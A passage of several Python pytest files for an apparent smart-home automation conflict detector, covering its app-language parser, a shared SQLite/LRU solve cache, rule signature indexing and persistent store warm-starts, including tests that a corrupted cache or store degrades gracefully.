    assert isinstance(decl, ast.VarDecl)
    assert decl.name == "data"


def test_private_method_modifier():
    module = parse("private def helper() { return 1 }")
    assert "helper" in module.methods


def test_assignment_to_property():
    module = parse("def f() { state.count = 5 }")
    assign = module.methods["f"].body.statements[0]
    assert isinstance(assign, ast.Assignment)
    assert isinstance(assign.target, ast.PropertyAccess)


def test_plus_assignment():
    module = parse("def f() { state.count += 1 }")
    assign = module.methods["f"].body.statements[0]
    assert assign.op == "+="


def test_index_access():
    module = parse("def x = params[0]")
    assert isinstance(module.top_level[0].initializer, ast.IndexAccess)


def test_parse_error_reports_location():
    with pytest.raises(ParseError) as exc_info:
        parse("def f() { if (x { } }")
    assert exc_info.value.location is not None


def test_unexpected_token_raises():
    with pytest.raises(ParseError):
        parse("def x = ,")


def test_runin_with_method_reference():
    module = parse("def f(evt) { runIn(60, turnOff) }")
    call = module.methods["f"].body.statements[0].expr
    assert call.name == "runIn"
    assert call.args[0].value == 60


def test_nested_property_chain():
    module = parse('def v = evt.device.displayName')
    init = module.top_level[0].initializer
    assert isinstance(init, ast.PropertyAccess)
    assert init.name == "displayName"
    assert init.receiver.name == "device"


def test_not_operator():
    module = parse("def f() { if (!enabled) { return } }")
    cond = module.methods["f"].body.statements[0].condition
    assert isinstance(cond, ast.UnaryOp)
    assert cond.op == "!"


def test_command_call_not_confused_with_typed_decl():
    module = parse("def f() { sendSms phone, msg }")
    call = module.methods["f"].body.statements[0].expr
    assert isinstance(call, ast.MethodCall)
    assert call.name == "sendSms"
    assert len(call.args) == 2
