"""Shared cross-tenant solve cache units (DESIGN.md §12).

Covers the three layers the cache is built from:

* content-addressed keys: two tenants' structurally identical
  constraint instances share one key no matter what their device ids
  are, while any structural difference (bounds, candidates, constants,
  operators) changes it;
* entry encode/decode: a cached verdict decoded through another
  instance's name maps is byte-identical to solving that instance
  locally, and any structural surprise decodes as a miss, never a
  wrong answer;
* backends: LRU and SQLite honour first-write-wins ``put`` (the
  exactly-once publish counter contract), and a corrupted SQLite file
  *degrades* — warning + misses + unchanged results — mirroring the
  ``DetectionStore`` corrupt-store behavior.
"""

import json

import pytest

from repro.constraints import TypeBasedResolver
from repro.constraints.solvecache import (
    InProcessLRUCache,
    SolveCacheBackend,
    SQLiteSolveCache,
    cache_from_payload,
    decode_entry,
    encode_entry,
    make_solve_cache,
    shared_key,
)
from repro.constraints.solver import Result, Solver, VarPool
from repro.constraints.terms import (
    AffineTerm,
    CmpAtom,
    FreeAtom,
    StrTerm,
    conj,
    lit,
)
from repro.corpus import demo_apps
from repro.detector import DetectionPipeline
from repro.rules.extractor import RuleExtractor


def _instance(prefix: str, threshold: float = 70.0):
    """One (pool, formula) constraint instance whose variable names all
    carry ``prefix`` — the stand-in for a tenant's device ids."""
    pool = VarPool()
    temp = pool.declare_num(f"{prefix}.temperature", 0.0, 100.0)
    mode = pool.declare_str(f"{prefix}.mode", {"home", "away"})
    formula = conj(
        [
            lit(CmpAtom(AffineTerm(temp), ">", AffineTerm.const(threshold))),
            lit(CmpAtom(StrTerm(mode), "==", StrTerm(None, "home"))),
            lit(FreeAtom(f"{prefix}.motion")),
        ]
    )
    return pool, formula


# ----------------------------------------------------------------------
# Content-addressed keys


def test_shared_key_ignores_variable_names():
    key_a, vmap_a, fmap_a = shared_key(*_instance("tenantA-d03"))
    key_b, vmap_b, fmap_b = shared_key(*_instance("tenantB-d41"))
    assert key_a == key_b
    assert key_a.startswith("sc1:")
    # The name maps differ — that is exactly what the key abstracts.
    assert vmap_a != vmap_b
    assert fmap_a != fmap_b
    assert sorted(vmap_a.values()) == sorted(vmap_b.values())


def test_shared_key_distinguishes_structure():
    base, _, _ = shared_key(*_instance("x"))
    # A different comparison constant is a different instance.
    other, _, _ = shared_key(*_instance("x", threshold=71.0))
    assert other != base
    # Different declared bounds are a different instance too, even when
    # the formula text is identical.
    pool, formula = _instance("x")
    pool.num_bounds["x.temperature"] = (0.0, 200.0)
    widened, _, _ = shared_key(pool, formula)
    assert widened != base


# ----------------------------------------------------------------------
# Entry encode/decode


def test_entry_round_trip_matches_local_solve():
    pool_a, formula_a = _instance("alice")
    local_a = Solver(pool_a).solve(formula_a)
    _, vmap_a, fmap_a = shared_key(pool_a, formula_a)
    entry = encode_entry(local_a, vmap_a, fmap_a)
    # Storage is JSON (SQLite TEXT column) — round-trip through it.
    entry = json.loads(json.dumps(entry, sort_keys=True))

    pool_b, formula_b = _instance("bob")
    _, vmap_b, fmap_b = shared_key(pool_b, formula_b)
    decoded = decode_entry(entry, vmap_b, fmap_b)
    local_b = Solver(pool_b).solve(formula_b)
    # Byte-identical to solving locally: same verdict, same witness
    # values *and insertion order*, same decision count.
    assert decoded == local_b
    assert list(decoded.witness) == list(local_b.witness)
    assert repr(decoded) == repr(local_b)


def test_unsat_entry_round_trips():
    pool = VarPool()
    temp = pool.declare_num("t", 0.0, 50.0)
    formula = lit(CmpAtom(AffineTerm(temp), ">", AffineTerm.const(99.0)))
    result = Solver(pool).solve(formula)
    assert not result.sat
    _, vmap, fmap = shared_key(pool, formula)
    decoded = decode_entry(encode_entry(result, vmap, fmap), vmap, fmap)
    assert decoded == result


def test_encode_refuses_untranslatable_witness():
    _, vmap, fmap = shared_key(*_instance("a"))
    rogue = Result(sat=True, witness={"not.declared": 1})
    assert encode_entry(rogue, vmap, fmap) is None
    rogue_free = Result(sat=True, witness={"?not.declared": True})
    assert encode_entry(rogue_free, vmap, fmap) is None


def test_decode_rejects_structural_surprises():
    _, vmap, fmap = shared_key(*_instance("a"))
    good = {"sat": True, "decisions": 1, "witness": []}
    assert decode_entry(good, vmap, fmap) is not None
    for bad in (
        None,
        "sat",
        [],
        {"sat": 1, "witness": []},  # sat must be a real bool
        {"sat": True, "witness": {}},  # witness must be a list
        {"sat": True, "witness": [["v0"]]},  # not a pair
        {"sat": True, "witness": [[3, 1]]},  # name not a string
        {"sat": True, "witness": [["v999", 1]]},  # undeclared variable
        {"sat": True, "witness": [["?f999", True]]},  # undeclared atom
        {"sat": True, "witness": [], "decisions": "many"},
    ):
        assert decode_entry(bad, vmap, fmap) is None, bad


# ----------------------------------------------------------------------
# Backends: contract, specs, payloads


def test_backend_base_contract():
    backend = SolveCacheBackend()
    with pytest.raises(NotImplementedError):
        backend.get("k")
    with pytest.raises(NotImplementedError):
        backend.put("k", {})
    backend.flush()  # no-ops, never raise
    backend.close()
    assert backend.encode() is None


def test_lru_put_once_and_eviction():
    cache = InProcessLRUCache(max_entries=2)
    assert cache.put("a", {"sat": True}) is True
    assert cache.put("a", {"sat": True}) is False  # first write wins
    assert cache.put("b", {"sat": False}) is True
    assert cache.get("a") == {"sat": True}  # touch: "a" is now newest
    assert cache.put("c", {"sat": True}) is True  # evicts "b"
    assert cache.get("b") is None
    assert cache.get("a") is not None
    assert len(cache) == 2
    # LRU state cannot cross a process boundary.
    assert cache.encode() is None
    with pytest.raises(ValueError):
        InProcessLRUCache(max_entries=0)


def test_make_solve_cache_specs(tmp_path):
    assert make_solve_cache(None) is None
    backend = InProcessLRUCache()
    assert make_solve_cache(backend) is backend
    assert isinstance(make_solve_cache("lru"), InProcessLRUCache)
    assert make_solve_cache("lru:5").max_entries == 5
    sqlite_backend = make_solve_cache(f"sqlite:{tmp_path / 'fleet.db'}")
    assert isinstance(sqlite_backend, SQLiteSolveCache)
    sqlite_backend.close()
    for bad in ("lru:zero", "lru:0", "sqlite:", "quantum:9", 3):
        with pytest.raises(ValueError, match="valid specs"):
            make_solve_cache(bad)


def test_cache_from_payload(tmp_path):
    assert cache_from_payload(None) is None
    live = InProcessLRUCache()
    assert cache_from_payload(live) is live
    payload = ("sqlite", str(tmp_path / "fleet.db"))
    reopened = cache_from_payload(payload)
    assert isinstance(reopened, SQLiteSolveCache)
    # Memoized: every chunk of a batch reuses one connection.
    assert cache_from_payload(payload) is reopened
    assert cache_from_payload(("unknown", "x")) is None


# ----------------------------------------------------------------------
# SQLite backend


def test_sqlite_round_trip_persists_across_reopen(tmp_path):
    path = tmp_path / "fleet.db"
    cache = SQLiteSolveCache(path)
    entry = {"sat": True, "decisions": 3, "witness": [["v0", 42]]}
    assert cache.put("sc1:abc", entry) is True
    assert cache.put("sc1:abc", {"sat": False}) is False  # first write wins
    assert cache.get("sc1:abc") == entry
    assert cache.get("sc1:missing") is None
    assert len(cache) == 1
    assert cache.encode() == ("sqlite", str(path))
    cache.flush()
    cache.close()
    # Closed: everything degrades to misses, nothing raises.
    assert cache.get("sc1:abc") is None
    assert cache.put("sc1:new", entry) is False
    assert cache.encode() is None
    reopened = SQLiteSolveCache(path)
    assert reopened.get("sc1:abc") == entry  # survived the process
    reopened.close()


def test_sqlite_corrupt_file_degrades_with_warning(tmp_path):
    path = tmp_path / "fleet.db"
    garbage = b"this was never a SQLite database\x00\xff" * 64
    path.write_bytes(garbage)
    with pytest.warns(RuntimeWarning, match="degrading to re-solving"):
        cache = SQLiteSolveCache(path)
    assert cache.get("sc1:any") is None
    assert cache.put("sc1:any", {"sat": True}) is False
    assert len(cache) == 0
    assert cache.encode() is None
    assert "disabled" in repr(cache)
    # Never deleted or rewritten: diagnosis stays possible.
    assert path.read_bytes() == garbage


def test_sqlite_truncated_database_degrades(tmp_path):
    path = tmp_path / "fleet.db"
    seeded = SQLiteSolveCache(path)
    seeded.put("sc1:abc", {"sat": True, "decisions": 0, "witness": []})
    seeded.close()
    path.write_bytes(path.read_bytes()[:100])  # truncate mid-header
    with pytest.warns(RuntimeWarning, match="is unusable"):
        cache = SQLiteSolveCache(path)
        assert cache.get("sc1:abc") is None


def test_sqlite_bad_row_is_one_miss(tmp_path):
    import sqlite3

    path = tmp_path / "fleet.db"
    cache = SQLiteSolveCache(path)
    cache.put("sc1:good", {"sat": True, "decisions": 0, "witness": []})
    conn = sqlite3.connect(str(path))
    conn.execute(
        "INSERT INTO entries (key, value) VALUES (?, ?)",
        ("sc1:bad", "{not json"),
    )
    conn.commit()
    conn.close()
    assert cache.get("sc1:bad") is None  # degrades, backend stays open
    assert cache.get("sc1:good") is not None
    cache.close()


# ----------------------------------------------------------------------
# End-to-end: the cache only ever short-circuits solves


def _demo_corpus():
    extractor = RuleExtractor()
    rulesets, hints, values = [], {}, {}
    for app in demo_apps():
        rulesets.append(extractor.extract(app.source, app.name))
        hints[app.name] = app.type_hints
        values[app.name] = app.values
    return rulesets, hints, values


def _audit_threats(rulesets, hints, values, shared_cache):
    pipeline = DetectionPipeline(
        TypeBasedResolver(type_hints=hints, values=values),
        shared_cache=shared_cache,
    )
    reports = pipeline.audit_store(rulesets)
    threats = [
        (r.app_name, t.type.value, t.rule_a.rule_id, t.rule_b.rule_id,
         t.detail, t.witness)
        for r in reports
        for t in r.threats
    ]
    return threats, pipeline.stats


def test_warmed_cache_short_circuits_second_tenant():
    rulesets, hints, values = _demo_corpus()
    reference, _ = _audit_threats(rulesets, hints, values, None)
    assert reference, "corpus produced no threats to compare"

    shared = InProcessLRUCache()
    first, first_stats = _audit_threats(rulesets, hints, values, shared)
    second, second_stats = _audit_threats(rulesets, hints, values, shared)
    # Identical threats with or without the cache, cold or warm.
    assert first == reference
    assert second == reference
    # The second tenant's structurally identical corpus never solves.
    assert second_stats.solver_calls == 0
    assert second_stats.shared_cache_hits > 0
    assert second_stats.shared_cache_publishes == 0
    # Hit/solve trade is exact: everything else is untouched, so the
    # verdict count is conserved across the arms.
    assert (
        second_stats.solver_calls + second_stats.shared_cache_hits
        == first_stats.solver_calls + first_stats.shared_cache_hits
    )
    assert second_stats.pairs_examined == first_stats.pairs_examined
    assert second_stats.cache_hits == first_stats.cache_hits


def test_corrupt_cache_leaves_results_unaffected(tmp_path):
    rulesets, hints, values = _demo_corpus()
    reference, reference_stats = _audit_threats(rulesets, hints, values, None)

    path = tmp_path / "fleet.db"
    path.write_bytes(b"\xde\xad\xbe\xef" * 256)
    with pytest.warns(RuntimeWarning, match="degrading to re-solving"):
        broken = SQLiteSolveCache(path)
    threats, stats = _audit_threats(rulesets, hints, values, broken)
    assert threats == reference
    # Every get missed and every put was refused: plain re-solving.
    assert stats.solver_calls == reference_stats.solver_calls
    assert stats.shared_cache_hits == 0
    assert stats.shared_cache_publishes == 0
