"""Unit tests for the signature/index layers of the detection pipeline.

The signed candidate tests must agree with the per-pair derivations in
``repro.detector.analysis``, and the inverted index must return a
superset of every threat class's candidate pairs.
"""

from repro.constraints import TypeBasedResolver
from repro.detector import (
    DetectionEngine,
    RuleIndex,
    SignatureBuilder,
    compute_signature,
)
from repro.detector.analysis import (
    action_identity,
    action_touches_condition,
    action_triggers,
    actions_contradict,
    command_target,
    goal_conflict_channels,
)
from repro.detector.signature import (
    signatures_contradict,
    signed_action_triggers,
    signed_condition_touches,
    signed_goal_conflicts,
)
from repro.rules import extract_rules

HEATER_APP = '''
input "c1", "capability.contactSensor"
input "heater1", "capability.switch"
def installed() { subscribe(c1, "contact.closed", h) }
def h(evt) { heater1.on() }
'''

FAN_APP = '''
input "t2", "capability.temperatureMeasurement"
input "fan2", "capability.switch"
def installed() { subscribe(t2, "temperature", h) }
def h(evt) {
    if (evt.value.toInteger() > 80) fan2.on()
}
'''

GUARD_APP = '''
input "lamp1", "capability.switch"
input "motion1", "capability.motionSensor"
input "alarm1", "capability.alarm"
def installed() { subscribe(motion1, "motion.active", h) }
def h(evt) {
    if (lamp1.currentSwitch == "on") alarm1.both()
}
'''

MODE_SETTER = '''
input "p1", "capability.presenceSensor"
def installed() { subscribe(p1, "presence.not present", h) }
def h(evt) { setLocationMode("Away") }
'''

NOTIFY_APP = '''
input "c9", "capability.contactSensor"
def installed() { subscribe(c9, "contact.open", h) }
def h(evt) { sendPush("door opened") }
'''

HINTS = {
    "Heater": {"c1": "contactSensor", "heater1": "heater"},
    "FanCtl": {"t2": "temperatureSensor", "fan2": "fan"},
    "Guard": {"lamp1": "floorLamp", "motion1": "motionSensor",
              "alarm1": "siren"},
    "Setter": {"p1": "presenceSensor"},
    "Notify": {"c9": "contactSensor"},
}


def _resolver():
    return TypeBasedResolver(type_hints=HINTS)


def _rule(source, app):
    return extract_rules(source, app).rules[0]


def test_signature_matches_analysis_derivations():
    resolver = _resolver()
    rule = _rule(HEATER_APP, "Heater")
    sig = compute_signature(resolver, rule)
    identity, type_name = action_identity(resolver, rule)
    assert sig.action_identity == identity
    assert sig.action_type == type_name
    assert sig.command_target == command_target(rule.action)
    assert "temperature" in sig.action_effects
    assert sig.is_device_action
    assert sig.trigger_fireable
    assert sig.trigger_identity is not None


def test_signature_location_action():
    resolver = _resolver()
    sig = compute_signature(resolver, _rule(MODE_SETTER, "Setter"))
    assert sig.sets_location_mode
    assert sig.action_identity == "location:mode"
    assert sig.command_target == ("mode", "Away")


def test_signature_non_device_action():
    resolver = _resolver()
    sig = compute_signature(resolver, _rule(NOTIFY_APP, "Notify"))
    assert not sig.is_device_action
    assert sig.action_identity is None
    assert sig.action_effects == {}


def test_signature_condition_reads():
    resolver = _resolver()
    sig = compute_signature(resolver, _rule(GUARD_APP, "Guard"))
    assert any(
        read.attr.attribute == "switch" for read in sig.condition_reads
    )


def test_signed_tests_agree_with_analysis():
    resolver = _resolver()
    heater = _rule(HEATER_APP, "Heater")
    fan = _rule(FAN_APP, "FanCtl")
    guard = _rule(GUARD_APP, "Guard")
    sig_h = compute_signature(resolver, heater)
    sig_f = compute_signature(resolver, fan)
    sig_g = compute_signature(resolver, guard)
    for a, b, sa, sb in [
        (heater, fan, sig_h, sig_f),
        (fan, heater, sig_f, sig_h),
        (heater, guard, sig_h, sig_g),
        (guard, heater, sig_g, sig_h),
    ]:
        assert signatures_contradict(sa, sb) == actions_contradict(a, b)
        assert signed_goal_conflicts(sa, sb) == goal_conflict_channels(
            resolver, a, b
        )
        assert signed_action_triggers(sa, sb) == action_triggers(
            resolver, a, b
        )
        assert signed_condition_touches(sa, sb) == action_touches_condition(
            resolver, a, b
        )


def test_signature_builder_memoizes_and_invalidates():
    builder = SignatureBuilder(_resolver())
    rule = _rule(HEATER_APP, "Heater")
    first = builder.sign(rule)
    assert builder.sign(rule) is first
    builder.invalidate_app("Heater")
    assert builder.sign(rule) is not first


def test_index_candidates_cover_detected_pairs():
    # Every pair the engine finds a threat in must be index-reachable
    # from at least one side.
    resolver = _resolver()
    engine = DetectionEngine(resolver)
    builder = engine.signatures
    rules = [
        _rule(HEATER_APP, "Heater"),
        _rule(FAN_APP, "FanCtl"),
        _rule(GUARD_APP, "Guard"),
        _rule(MODE_SETTER, "Setter"),
        _rule(NOTIFY_APP, "Notify"),
    ]
    sigs = [builder.sign(rule) for rule in rules]
    index = RuleIndex()
    index.add_ruleset(sigs)
    for sig_a in sigs:
        reachable = {s.rule_id for s in index.candidates(sig_a)}
        for sig_b in sigs:
            if sig_b.rule_id == sig_a.rule_id:
                continue
            if engine.detect_signed(sig_a, sig_b):
                assert (
                    sig_b.rule_id in reachable
                    or sig_a.rule_id
                    in {s.rule_id for s in index.candidates(sig_b)}
                )


def test_index_remove_app():
    resolver = _resolver()
    builder = SignatureBuilder(resolver)
    sig_h = builder.sign(_rule(HEATER_APP, "Heater"))
    sig_f = builder.sign(_rule(FAN_APP, "FanCtl"))
    index = RuleIndex()
    index.add_ruleset([sig_h, sig_f])
    assert len(index) == 2
    assert any(s.rule_id == sig_h.rule_id for s in index.candidates(sig_f))
    index.remove_app("Heater")
    assert len(index) == 1
    assert index.apps == ["FanCtl"]
    assert not any(
        s.rule_id == sig_h.rule_id for s in index.candidates(sig_f)
    )


def test_index_excludes_app():
    resolver = _resolver()
    builder = SignatureBuilder(resolver)
    sig_h = builder.sign(_rule(HEATER_APP, "Heater"))
    sig_f = builder.sign(_rule(FAN_APP, "FanCtl"))
    index = RuleIndex()
    index.add(sig_h)
    assert index.candidates(sig_f)
    assert not index.candidates(sig_f, exclude_app="Heater")
    assert not index.candidates(sig_h, exclude_app="Heater")
