"""Persistence round trips for the detection store (DESIGN.md §8).

The invariants under test:

* save -> warm start in a fresh pipeline replays the audit with **zero**
  solver calls and reports threats identical to the cold run (down to
  the solver witnesses);
* corrupted stores, old schema versions and corrupted shards never
  crash or serve stale results — they degrade to transparent
  re-signing/re-solving;
* a resolver-binding change (device re-binding, input value change)
  invalidates exactly the touched app;
* the environment-sharded index is observably equivalent to the flat
  index, including the cross-environment identity corner case, and one
  home's shard is loadable without reading any other shard file.
"""

import json
from dataclasses import dataclass, field, replace

from repro.corpus import device_controlling_apps
from repro.detector import (
    DetectionPipeline,
    DetectionStore,
    RuleIndex,
    ShardedRuleIndex,
)
from repro.detector.store import SCHEMA_VERSION, _pinned_inputs
from repro.rules.extractor import RuleExtractor
from repro.rules.model import RuleSet

ZONE_SIZE = 4
STORE_SIZE = 24


@dataclass(slots=True)
class ZonedResolver:
    """Deployment-style identity: same-type devices alias only within
    an app's zone; one environment per zone."""

    type_hints: dict[str, dict[str, str]] = field(default_factory=dict)
    values: dict[str, dict[str, object]] = field(default_factory=dict)
    zones: dict[str, int] = field(default_factory=dict)

    def identity(self, app_name, ref):
        zone = self.zones.get(app_name, 0)
        hint = self.type_hints.get(app_name, {}).get(ref.name)
        if hint is not None:
            return f"z{zone}:{hint}", hint
        cap_name = ref.capability.split(".", 1)[-1]
        return f"z{zone}:cap:{cap_name}", None

    def input_value(self, app_name, input_name):
        return self.values.get(app_name, {}).get(input_name)

    def environment(self, app_name):
        return f"z{self.zones.get(app_name, 0)}"


def _clone_ruleset(base: RuleSet, clone_name: str) -> RuleSet:
    rules = [
        replace(rule, app_name=clone_name, rule_id=f"{clone_name}/R{i + 1}")
        for i, rule in enumerate(base.rules)
    ]
    return RuleSet(app_name=clone_name, rules=rules, inputs=dict(base.inputs))


def build_store(size: int = STORE_SIZE):
    apps = list(device_controlling_apps())
    extractor = RuleExtractor()
    base = {app.name: extractor.extract(app.source, app.name) for app in apps}
    resolver = ZonedResolver()
    rulesets = []
    for k in range(size):
        app = apps[k % len(apps)]
        clone_name = f"{app.name}X{k}"
        rulesets.append(_clone_ruleset(base[app.name], clone_name))
        resolver.type_hints[clone_name] = app.type_hints
        resolver.values[clone_name] = dict(app.values)
        resolver.zones[clone_name] = k // ZONE_SIZE
    return rulesets, resolver


def _cold_audit(rulesets, resolver, index=None):
    pipeline = DetectionPipeline(
        resolver, index=ShardedRuleIndex() if index is None else index
    )
    reports = pipeline.audit_store(rulesets)
    return pipeline, reports


def _keys(reports):
    return {
        (t.type.value, t.rule_a.rule_id, t.rule_b.rule_id)
        for report in reports
        for t in report.threats
    }


def _detailed(reports):
    """Full threat content (including solver witnesses), orderable."""
    return sorted(
        (
            (t.type.value, t.rule_a.rule_id, t.rule_b.rule_id, t.detail,
             t.witness)
            for report in reports
            for t in report.threats
        ),
        key=lambda item: (item[0], item[1], item[2], item[3], str(item[4])),
    )


def _saved_store(tmp_path, rulesets, resolver):
    pipeline, reports = _cold_audit(rulesets, resolver)
    store = DetectionStore(tmp_path / "store")
    store.save(pipeline, rulesets={r.app_name: r for r in rulesets})
    return store, pipeline, reports


# ----------------------------------------------------------------------
# Warm-start round trips


def test_warm_start_replays_with_zero_solver_calls(tmp_path):
    rulesets, resolver = build_store()
    store, cold_pipeline, cold_reports = _saved_store(
        tmp_path, rulesets, resolver
    )
    assert cold_pipeline.stats.solver_calls > 0

    warm = store.warm_start(resolver, rulesets)
    assert not warm.cold
    assert warm.stale_apps == []
    assert sorted(warm.warm_apps) == sorted(r.app_name for r in rulesets)
    assert warm.pipeline.stats.solver_calls == 0
    # Identical down to details and solver witnesses, not just pair keys.
    assert _detailed(warm.reports) == _detailed(cold_reports)


def test_warm_start_from_persisted_rulesets_alone(tmp_path):
    """A fresh process can re-audit without re-extracting anything: the
    rulesets themselves round-trip through the store."""
    rulesets, resolver = build_store()
    store, _, cold_reports = _saved_store(tmp_path, rulesets, resolver)

    warm = store.warm_start(resolver)  # no rulesets passed
    assert warm.pipeline.stats.solver_calls == 0
    assert _keys(warm.reports) == _keys(cold_reports)
    assert _detailed(warm.reports) == _detailed(cold_reports)


def test_missing_store_is_a_cold_start(tmp_path):
    rulesets, resolver = build_store(size=8)
    _, cold_reports = _cold_audit(rulesets, resolver)
    store = DetectionStore(tmp_path / "nowhere")
    warm = store.warm_start(resolver, rulesets)
    assert warm.cold
    assert warm.warm_apps == []
    assert warm.pipeline.stats.solver_calls > 0
    assert _keys(warm.reports) == _keys(cold_reports)


# ----------------------------------------------------------------------
# Degradation: corruption, version skew, binding changes


def test_corrupt_meta_falls_back_to_cold(tmp_path):
    rulesets, resolver = build_store(size=8)
    store, _, cold_reports = _saved_store(tmp_path, rulesets, resolver)
    (store.path / "meta.json").write_text("{not json", encoding="utf-8")

    warm = store.warm_start(resolver, rulesets)
    assert warm.cold
    assert warm.pipeline.stats.solver_calls > 0
    assert _keys(warm.reports) == _keys(cold_reports)


def test_schema_version_mismatch_falls_back_to_cold(tmp_path):
    rulesets, resolver = build_store(size=8)
    store, _, cold_reports = _saved_store(tmp_path, rulesets, resolver)
    meta_path = store.path / "meta.json"
    meta = json.loads(meta_path.read_text(encoding="utf-8"))
    assert meta["schema"] == SCHEMA_VERSION
    meta["schema"] = SCHEMA_VERSION + 1
    meta_path.write_text(json.dumps(meta), encoding="utf-8")

    assert store.load() is None
    warm = store.warm_start(resolver, rulesets)
    assert warm.cold
    assert warm.pipeline.stats.solver_calls > 0
    assert _keys(warm.reports) == _keys(cold_reports)


def test_corrupt_shard_degrades_only_its_apps(tmp_path):
    rulesets, resolver = build_store()
    store, cold_pipeline, cold_reports = _saved_store(
        tmp_path, rulesets, resolver
    )
    meta = json.loads((store.path / "meta.json").read_text(encoding="utf-8"))
    broken_env = sorted(meta["shards"])[0]
    broken_apps = {
        app
        for app, record in meta["apps"].items()
        if record["environment"] == broken_env
    }
    (store.path / meta["shards"][broken_env]).write_text(
        "garbage", encoding="utf-8"
    )

    warm = store.warm_start(resolver, rulesets)
    assert not warm.cold
    assert set(warm.stale_apps) == broken_apps
    # The broken shard re-solves; everything else stays warm.
    assert 0 < warm.pipeline.stats.solver_calls < (
        cold_pipeline.stats.solver_calls
    )
    assert _keys(warm.reports) == _keys(cold_reports)


def test_binding_change_invalidates_exactly_that_app(tmp_path):
    rulesets, resolver = build_store()
    store, _, _ = _saved_store(tmp_path, rulesets, resolver)

    # The user reconfigures one app's input values: its fingerprint must
    # mismatch, forcing transparent re-signing + re-solving for it only.
    # Pick an app whose values actually pin a constraint input.
    victim, changed = next(
        (ruleset.app_name, next(iter(_pinned_inputs(resolver, ruleset))))
        for ruleset in rulesets
        if _pinned_inputs(resolver, ruleset)
    )
    resolver.values[victim] = dict(
        resolver.values.get(victim, {}), **{changed: 999999}
    )

    warm = store.warm_start(resolver, rulesets)
    assert warm.stale_apps == [victim]
    assert warm.pipeline.stats.solver_calls > 0
    # Ground truth: a fully cold audit under the *new* bindings.
    _, fresh_reports = _cold_audit(rulesets, resolver)
    assert _detailed(warm.reports) == _detailed(fresh_reports)


# ----------------------------------------------------------------------
# Sharded index equivalence


def test_sharded_index_matches_flat_index():
    rulesets, resolver = build_store()
    flat_pipeline, flat_reports = _cold_audit(
        rulesets, resolver, index=RuleIndex()
    )
    sharded_pipeline, sharded_reports = _cold_audit(rulesets, resolver)
    assert _keys(sharded_reports) == _keys(flat_reports)
    assert (
        sharded_pipeline.stats.solver_calls
        == flat_pipeline.stats.solver_calls
    )
    assert len(sharded_pipeline.index.environments) > 1


def test_sharded_index_finds_cross_environment_identities():
    """A resolver may alias one device identity across environments
    (repository analysis with per-tenant homes); direct-state candidate
    pairs must still be found across shards."""

    @dataclass(slots=True)
    class CrossEnvResolver:
        envs: dict[str, str]

        def identity(self, app_name, ref):
            cap_name = ref.capability.split(".", 1)[-1]
            return f"type:cap:{cap_name}", None  # NOT env-scoped

        def input_value(self, app_name, input_name):
            return None

        def environment(self, app_name):
            return self.envs[app_name]

    source_on = '''
input "m1", "capability.motionSensor"
input "sw1", "capability.switch"
def installed() { subscribe(m1, "motion.active", h) }
def h(evt) { sw1.on() }
'''
    source_off = '''
input "m2", "capability.motionSensor"
input "sw2", "capability.switch"
def installed() { subscribe(m2, "motion.active", h) }
def h(evt) { sw2.off() }
'''
    extractor = RuleExtractor()
    rulesets = [
        extractor.extract(source_on, "OnApp"),
        extractor.extract(source_off, "OffApp"),
    ]
    resolver = CrossEnvResolver(envs={"OnApp": "home1", "OffApp": "home2"})

    flat_pipeline, flat_reports = _cold_audit(
        rulesets, resolver, index=RuleIndex()
    )
    sharded_pipeline, sharded_reports = _cold_audit(rulesets, resolver)
    # The same-actuator AR pair spans two environments; both index
    # layouts must find it.
    assert _keys(flat_reports) == _keys(sharded_reports)
    assert any(
        key[0] == "AR" for key in _keys(sharded_reports)
    ), "expected a cross-environment actuator race"

    # After removing one app the cross-shard identity bookkeeping must
    # shrink back: no candidates remain for the other app's signature.
    sharded_pipeline.remove_ruleset("OffApp")
    sig = sharded_pipeline.installed_signatures()["OnApp"][0]
    assert sharded_pipeline.index.candidates(sig, exclude_app="OnApp") == []


def test_load_shard_index_reads_one_shard_only(tmp_path):
    rulesets, resolver = build_store()
    store, pipeline, _ = _saved_store(tmp_path, rulesets, resolver)
    meta = json.loads((store.path / "meta.json").read_text(encoding="utf-8"))
    target_env = sorted(meta["shards"])[1]
    # Hard guarantee: every *other* shard file is unreadable, so the
    # per-home load cannot possibly depend on them.
    for env, filename in meta["shards"].items():
        if env != target_env:
            (store.path / filename).write_text("garbage", encoding="utf-8")

    loaded = store.load_shard_index(target_env, resolver)
    assert loaded is not None
    shard_rulesets, shard_index = loaded
    expected_apps = {
        app
        for app, record in meta["apps"].items()
        if record["environment"] == target_env
    }
    assert set(shard_rulesets) == expected_apps
    assert set(shard_index.by_app) == expected_apps
    # The rebuilt-from-payload buckets answer candidates exactly like
    # the live pipeline's shard.
    live_shard = pipeline.index.shards[target_env]
    for app in expected_apps:
        for sig in pipeline.installed_signatures()[app]:
            expected = {
                s.rule_id for s in live_shard.candidates(sig, exclude_app=app)
            }
            actual = {
                s.rule_id for s in shard_index.candidates(sig, exclude_app=app)
            }
            assert actual == expected


def test_index_payload_roundtrip_is_lossless():
    rulesets, resolver = build_store(size=8)
    pipeline, _ = _cold_audit(rulesets, resolver, index=RuleIndex())
    index = pipeline.index
    signatures = {
        sig.rule_id: sig
        for sigs in pipeline.installed_signatures().values()
        for sig in sigs
    }
    rebuilt = RuleIndex.from_payload(
        json.loads(json.dumps(index.to_payload())), signatures
    )
    assert rebuilt.to_payload() == index.to_payload()


# ----------------------------------------------------------------------
# Companion-app wiring (save-on-commit / load-on-startup)


def test_homeguard_store_roundtrip(tmp_path):
    from repro import HomeGuard
    from repro.corpus import app_by_name

    store_path = tmp_path / "home-store"
    hg = HomeGuard(transport="http", store_path=str(store_path))
    hg.register_device("Living-room TV", "tv")
    hg.register_device("Hall sensor", "temperatureSensor")
    hg.register_device("Back window", "windowOpener")
    hg.install(
        app_by_name("ComfortTV"),
        devices={"tv1": "Living-room TV", "tSensor": "Hall sensor",
                 "window1": "Back window"},
        values={"threshold1": 30},
    )
    hg.install(
        app_by_name("ColdDefender"),
        devices={"tv2": "Living-room TV", "window2": "Back window"},
        values={"weather": "rainy"},
    )
    cold_audit = hg.audit_existing()

    # A fresh deployment (new process) warm-starts from the snapshot:
    # same installed apps, same audit verdicts, zero solver calls.
    hg2 = HomeGuard(transport="http", store_path=str(store_path))
    restored = hg2.restore()
    assert sorted(restored) == sorted(hg.installed_apps())
    assert hg2.installed_apps() == hg.installed_apps()
    assert hg2.detection_stats.solver_calls == 0
    warm_audit = hg2.audit_existing()
    assert _detailed(warm_audit) == _detailed(cold_audit)
    assert hg2.detection_stats.solver_calls == 0

    # And the restored deployment keeps working: a further install
